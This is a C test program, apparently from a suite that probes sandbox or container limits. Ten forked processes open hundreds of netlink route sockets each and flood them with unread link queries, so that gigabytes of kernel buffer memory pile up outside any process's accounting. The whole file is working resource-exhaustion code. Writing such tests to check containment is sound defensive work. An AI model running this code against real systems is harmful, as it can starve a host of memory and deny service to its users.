/* tries: to have gigabytes that no process holds: answers of the kernel which nobody reads, in the buffers of netlink
 * held: nothing broke
 * held: says MB of memory
 * places: root user old-kernel masked-proc
 * (without namespaces there is no netlink) */
#include "hostile.h"
#include <linux/netlink.h>
#include <linux/rtnetlink.h>

enum { PROCESSES = 10, EACH = 900 };

/* Each question has an answer of some kilobytes, and there are as many as a buffer holds. */
static void fill(void)
{
    struct {
        struct nlmsghdr header;
        struct ifinfomsg link;
    } questions[200];
    for (int i = 0; i < 200; i++) {
        memset(&questions[i], 0, sizeof questions[i]);
        questions[i].header = (struct nlmsghdr){ .nlmsg_len = sizeof questions[i],
                                                 .nlmsg_type = RTM_GETLINK,
                                                 .nlmsg_flags = NLM_F_REQUEST };
        questions[i].link.ifi_index = 1;
    }
    for (int i = 0; i < EACH; i++) {
        int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
        if (fd >= 0)
            (void)!send(fd, questions, sizeof questions, MSG_DONTWAIT);
    }
}

int main(void)
{
    int s = welcome(), done[2];
    char byte;
    tried();
    if (pipe(done) != 0)
        return 1;
    for (int i = 0; i < PROCESSES; i++)
        if (fork() == 0) {
            fill();
            if (write(done[1], "x", 1) != 1)
                _exit(1);
            for (;;)
                pause();
        }
    for (int i = 0; i < PROCESSES; i++)
        if (read(done[0], &byte, 1) != 1)
            return 1;
    usleep(500000); /* it is counted some times a second */
    broke("some gigabytes lie in netlink");
    for (;;)
        close(accept(s, NULL, NULL));
}
